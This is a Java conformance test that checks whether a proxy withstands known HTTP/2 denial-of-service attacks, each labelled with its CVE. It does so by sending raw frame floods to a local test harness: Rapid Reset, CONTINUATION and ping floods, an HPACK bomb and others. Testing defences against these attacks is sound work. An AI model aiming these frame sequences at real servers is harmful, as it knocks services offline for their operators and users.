package io.trellis.proxy.conformance;

import static io.trellis.testkit.conformance.RawH2Connection.CONTINUATION;
import static io.trellis.testkit.conformance.RawH2Connection.DATA;
import static io.trellis.testkit.conformance.RawH2Connection.END_HEADERS;
import static io.trellis.testkit.conformance.RawH2Connection.END_STREAM;
import static io.trellis.testkit.conformance.RawH2Connection.HEADERS;
import static io.trellis.testkit.conformance.RawH2Connection.PING;
import static io.trellis.testkit.conformance.RawH2Connection.PRIORITY;
import static io.trellis.testkit.conformance.RawH2Connection.RST_STREAM;
import static io.trellis.testkit.conformance.RawH2Connection.SETTINGS;
import static io.trellis.testkit.conformance.RawH2Connection.WINDOW_UPDATE;

import io.netty.util.internal.PlatformDependent;
import io.trellis.testkit.conformance.Hpack;
import io.trellis.testkit.conformance.RawH2Connection;
import io.trellis.testkit.conformance.RawH2Connection.Frame;
import io.trellis.testkit.conformance.RawH2Connection.Kind;
import io.trellis.testkit.conformance.RawH2Connection.Outcome;
import io.trellis.testkit.conformance.Verdicts;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.management.BufferPoolMXBean;
import java.lang.management.ManagementFactory;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * H2-FLOOD: the HTTP/2 flood attacks of the 2019 Netflix set and later waves (Rapid Reset, CONTINUATION, HPACK), sent
 * as raw frames over a plain socket, most with the client's reader paused and its receive buffer shrunk. Every attack
 * is bounded in frames and time. An attack passes when the proxy ends it (GOAWAY and/or close; refusing the excess
 * streams for the stream-limit case; bounded memory for the client-not-reading case) and still serves a fresh
 * connection afterwards.
 *
 * <p>Prints {@code h2flood: N/N attacks closed}.
 */
class H2FloodTest {
  private static final Duration OUTCOME = Duration.ofSeconds(4);
  private static final Duration WRITE = Duration.ofSeconds(5);
  private static final int SMALL_RCVBUF = 4096;
  private static ProxyHarness harness;

  /** Failing attacks routed to the owner of the HTTP/2 codec setup (io.trellis.proxy.http.ConnectionSupport). */
  static final Map<String, String> KNOWN_BUGS = Map.of();

  @BeforeAll
  static void start() throws IOException {
    harness = ProxyHarness.start();
  }

  @AfterAll
  static void stop() {
    if (harness != null) {
      harness.close();
    }
  }

  interface Attack {
    /** Runs the attack on a handshaken connection; returns a detail string; the verdict uses {@link Result}. */
    Result run(RawH2Connection c) throws Exception;
  }

  record Result(boolean ended, String detail) {}

  private static byte[] repeat(byte[] frame, int times) {
    ByteArrayOutputStream b = new ByteArrayOutputStream(frame.length * times);
    for (int i = 0; i < times; i++) {
      b.writeBytes(frame);
    }
    return b.toByteArray();
  }

  /** Writes {@code frame} in batches until the connection ends or {@code max} frames were written. */
  private static Result flood(RawH2Connection c, byte[] frame, int batch, int max) {
    byte[] chunk = repeat(frame, batch);
    int sent = 0;
    boolean blocked = false;
    long deadline = System.nanoTime() + WRITE.toNanos();
    while (sent < max && System.nanoTime() < deadline) {
      if (!c.writeBounded(chunk, Duration.ofSeconds(2))) {
        blocked = !c.writeFailed();
        break;
      }
      sent += batch;
    }
    Outcome o = c.awaitGoawayOrClose(OUTCOME);
    boolean ended = o.kind() == Kind.GOAWAY || o.kind() == Kind.CLOSED || c.writeFailed();
    return new Result(ended, "wrote " + sent + " frames" + (blocked ? " (then the proxy stopped reading)" : "")
        + (c.writeFailed() ? " (write failed: connection closed/reset)" : "") + ", outcome " + o);
  }

  private static boolean freshConnectionServes() {
    try (RawH2Connection c = RawH2Connection.connect(harness.address())) {
      c.handshake();
      c.headers(1, Hpack.request("GET", "/fresh", "localhost"), true);
      Outcome o = c.awaitStream(1, Duration.ofSeconds(3));
      return o.kind() == Kind.RESPONSE && o.status() == 200;
    } catch (IOException e) {
      return false;
    }
  }

  private static byte[] header(int stream, Hpack block, int flags) {
    return RawH2Connection.frame(HEADERS, flags, stream, block.bytes());
  }

  /** Direct memory Netty accounts for, or the JDK's direct buffer pool, plus heap after a GC. */
  private static long retainedBytes() {
    System.gc();
    long direct = Math.max(PlatformDependent.usedDirectMemory(),
        ManagementFactory.getPlatformMXBeans(BufferPoolMXBean.class).stream()
            .filter(b -> b.getName().equals("direct")).mapToLong(BufferPoolMXBean::getMemoryUsed).sum());
    return direct + ManagementFactory.getMemoryMXBean().getHeapMemoryUsage().getUsed();
  }

  private static List<Object[]> attacks() {
    List<Object[]> a = new ArrayList<>();
    a.add(new Object[] {"PING-FLOOD (CVE-2019-9512)", true, (Attack) c ->
        flood(c, RawH2Connection.frame(PING, 0, 0, new byte[8]), 2000, 200_000)});
    a.add(new Object[] {"SETTINGS-FLOOD (CVE-2019-9515)", true, (Attack) c ->
        flood(c, RawH2Connection.frame(SETTINGS, 0, 0, new byte[0]), 2000, 200_000)});
    a.add(new Object[] {"RAPID-RESET (CVE-2023-44487)", false, (Attack) c -> {
      ByteArrayOutputStream b = new ByteArrayOutputStream();
      for (int i = 0; i < 2000; i++) {
        int stream = 2 * i + 1;
        b.writeBytes(header(stream, Hpack.request("GET", "/rapid-reset", "localhost"), END_HEADERS | END_STREAM));
        b.writeBytes(RawH2Connection.frame(RST_STREAM, 0, stream, RawH2Connection.int32(RawH2Connection.CANCEL)));
      }
      c.writeBounded(b.toByteArray(), WRITE);
      Outcome o = c.awaitGoawayOrClose(OUTCOME);
      return new Result(o.kind() != Kind.TIMEOUT || c.writeFailed(), "2000 HEADERS+RST_STREAM pairs -> " + o);
    }});
    a.add(new Object[] {"MADE-YOU-RESET (CVE-2025-55163)", false, (Attack) c -> {
      // Each stream is opened, then made invalid with a zero WINDOW_UPDATE, so the *server* must reset it.
      ByteArrayOutputStream b = new ByteArrayOutputStream();
      for (int i = 0; i < 2000; i++) {
        int stream = 2 * i + 1;
        b.writeBytes(header(stream, Hpack.request("POST", "/made-you-reset", "localhost"), END_HEADERS));
        b.writeBytes(RawH2Connection.frame(WINDOW_UPDATE, 0, stream, RawH2Connection.int32(0)));
      }
      c.writeBounded(b.toByteArray(), WRITE);
      Outcome o = c.awaitGoawayOrClose(OUTCOME);
      return new Result(o.kind() != Kind.TIMEOUT || c.writeFailed(), "2000 streams each reset by the server "
          + "(zero WINDOW_UPDATE) -> " + o);
    }});
    a.add(new Object[] {"EMPTY-DATA-FLOOD (CVE-2019-9518)", false, (Attack) c -> {
      c.write(HEADERS, END_HEADERS, 1, Hpack.request("POST", "/empty-data", "localhost").bytes());
      return flood(c, RawH2Connection.frame(DATA, 0, 1, new byte[0]), 100, 10_000);
    }});
    a.add(new Object[] {"CONTINUATION-FLOOD (CVE-2024-27316 class)", false, (Attack) c -> {
      c.write(HEADERS, 0, 1, Hpack.request("GET", "/continuation", "localhost").bytes());
      byte[] payload = Hpack.block().literal("x-pad", "p".repeat(1000)).bytes();
      return flood(c, RawH2Connection.frame(CONTINUATION, 0, 1, payload), 100, 5_000);
    }});
    a.add(new Object[] {"ZERO-LENGTH-CONTINUATION (CVE-2026-33871 class)", false, (Attack) c -> {
      c.write(HEADERS, 0, 1, Hpack.request("GET", "/continuation0", "localhost").bytes());
      return flood(c, RawH2Connection.frame(CONTINUATION, 0, 1, new byte[0]), 500, 20_000);
    }});
    a.add(new Object[] {"PRIORITY-FLOOD (CVE-2019-9513)", true, (Attack) c -> {
      ByteArrayOutputStream b = new ByteArrayOutputStream();
      for (int i = 0; i < 20_000; i++) {
        b.writeBytes(RawH2Connection.frame(PRIORITY, 0, 2 * (i % 500) + 1,
            RawH2Connection.priority(false, 2 * ((i + 1) % 500) + 1, 16)));
      }
      c.writeBounded(b.toByteArray(), WRITE);
      Outcome o = c.awaitGoawayOrClose(OUTCOME);
      return new Result(o.kind() != Kind.TIMEOUT || c.writeFailed(), "20000 PRIORITY frames shuffling 500 idle "
          + "streams -> " + o);
    }});
    a.add(new Object[] {"WINDOW_UPDATE-FLOOD", true, (Attack) c ->
        flood(c, RawH2Connection.frame(WINDOW_UPDATE, 0, 0, RawH2Connection.int32(1)), 1000, 20_000)});
    a.add(new Object[] {"STREAM-LIMIT (more than max_concurrent_streams)", false, (Attack) c -> {
      long advertised = c.serverSettings().getOrDefault(0x3, -1L);
      harness.upstream().clear();
      ByteArrayOutputStream b = new ByteArrayOutputStream();
      int opened = 150;
      for (int i = 0; i < opened; i++) {
        b.writeBytes(header(2 * i + 1, Hpack.request("POST", "/stream-limit/" + i, "localhost"), END_HEADERS));
      }
      c.writeBounded(b.toByteArray(), WRITE);
      int refused = 0;
      Kind end = null;
      long deadline = System.nanoTime() + OUTCOME.toNanos();
      while (System.nanoTime() < deadline) {
        Frame f = c.read(Duration.ofMillis(500));
        if (f == null) {
          end = c.eof() ? Kind.CLOSED : null;
          if (c.eof() || refused >= opened - 100) {
            break;
          }
          continue;
        }
        if (f.type() == RST_STREAM) {
          refused++;
        } else if (f.type() == RawH2Connection.GOAWAY) {
          end = Kind.GOAWAY;
          break;
        }
      }
      int maxUp = harness.upstream().maxInFlight();
      boolean ok = (refused >= opened - 100 || end != null) && maxUp <= 100 && advertised > 0 && advertised <= 100;
      return new Result(ok, "SETTINGS_MAX_CONCURRENT_STREAMS=" + advertised + ", opened " + opened + " streams, "
          + refused + " reset" + (end != null ? ", connection " + end : "") + ", upstream max in flight " + maxUp);
    }});
    a.add(new Object[] {"HPACK-TABLE-SIZE-UPDATE-ABUSE", false, (Attack) c -> {
      c.write(HEADERS, END_HEADERS | END_STREAM, 1, Hpack.block().tableSizeUpdate(1L << 30)
          .literal(":method", "GET").literal(":scheme", "http").literal(":path", "/hpack-size")
          .literal(":authority", "localhost").bytes());
      Outcome o = c.awaitGoawayOrClose(OUTCOME);
      return new Result(o.connectionError(RawH2Connection.COMPRESSION_ERROR), "table size update to 2^30 (above "
          + "SETTINGS_HEADER_TABLE_SIZE) -> " + o);
    }});
    a.add(new Object[] {"HPACK-BOMB (indexed-field amplification)", false, (Attack) c -> {
      c.write(HEADERS, END_HEADERS | END_STREAM, 1, Hpack.request("GET", "/hpack-seed", "localhost")
          .indexedLiteral("x-bomb", "b".repeat(4000)).bytes());
      Hpack bomb = Hpack.request("GET", "/hpack-bomb", "localhost");
      for (int i = 0; i < 4000; i++) {
        bomb.indexed(62);
      }
      c.write(HEADERS, END_HEADERS | END_STREAM, 3, bomb.bytes());
      Outcome o = c.awaitStream(3, OUTCOME);
      if (o.kind() == Kind.RESPONSE && o.status() != 431 && o.status() != 400) {
        return new Result(false, "16 MB of decoded headers from 4 KB on the wire was accepted: " + o);
      }
      boolean upstreamSaw = !harness.upstream().requestsMatching("/hpack-bomb").isEmpty();
      return new Result(!upstreamSaw, "4000 references to a 4 KB dynamic-table entry -> " + o
          + (upstreamSaw ? " BUT the upstream received it" : ""));
    }});
    a.add(new Object[] {"CLIENT-NOT-READING (CVE-2019-9511/9517)", true, (Attack) c -> {
      long before = retainedBytes();
      long upBefore = harness.upstream().bodyBytesWritten();
      int streams = 20;
      long each = 4L * 1024 * 1024;
      ByteArrayOutputStream b = new ByteArrayOutputStream();
      for (int i = 0; i < streams; i++) {
        b.writeBytes(header(2 * i + 1, Hpack.request("GET", "/big/" + each + "/nr" + i, "localhost"),
            END_HEADERS | END_STREAM));
      }
      c.writeBounded(b.toByteArray(), WRITE);
      Awaitility.await().pollInterval(Duration.ofMillis(100)).atMost(Duration.ofSeconds(8))
          .until(() -> harness.upstream().quietFor(Duration.ofMillis(700)));
      long grown = retainedBytes() - before;
      long upstreamWrote = harness.upstream().bodyBytesWritten() - upBefore;
      long requested = streams * each;
      boolean bounded = grown < 24L * 1024 * 1024;
      return new Result(bounded, streams + " streams x 4 MiB never read: upstream wrote " + (upstreamWrote >> 10)
          + " KiB of " + (requested >> 10) + " KiB, proxy direct+heap grew " + (grown >> 10)
          + " KiB (bound 24 MiB; a fully buffering proxy would hold 80 MiB)");
    }});
    return a;
  }

  @TestFactory
  Stream<DynamicTest> h2flood() {
    Verdicts verdicts = new Verdicts("h2flood").knownBugs(KNOWN_BUGS);
    for (Object[] attack : attacks()) {
      String name = (String) attack[0];
      boolean pausedReader = (Boolean) attack[1];
      Result r;
      long start = System.nanoTime();
      try (RawH2Connection c = RawH2Connection.connect(harness.address(), pausedReader ? SMALL_RCVBUF : 0)) {
        c.handshake();
        r = ((Attack) attack[2]).run(c);
      } catch (Exception e) {
        r = new Result(false, "attack threw " + e);
      }
      boolean fresh = freshConnectionServes();
      long ms = (System.nanoTime() - start) / 1_000_000;
      verdicts.add(name, "ATTACK", r.ended() && fresh, r.detail() + "; fresh connection served: " + fresh + " ("
          + ms + " ms" + (pausedReader ? ", reader paused" : "") + ")");
    }
    long passed = verdicts.passed(null);
    verdicts.print("h2flood: " + passed + "/" + verdicts.total(null) + " attacks closed");
    for (Verdicts.Verdict v : verdicts.all()) {
      System.out.println("  " + (v.pass() ? "ok   " : "FAIL ") + v.id() + ": " + v.detail());
    }
    return verdicts.tests();
  }
}
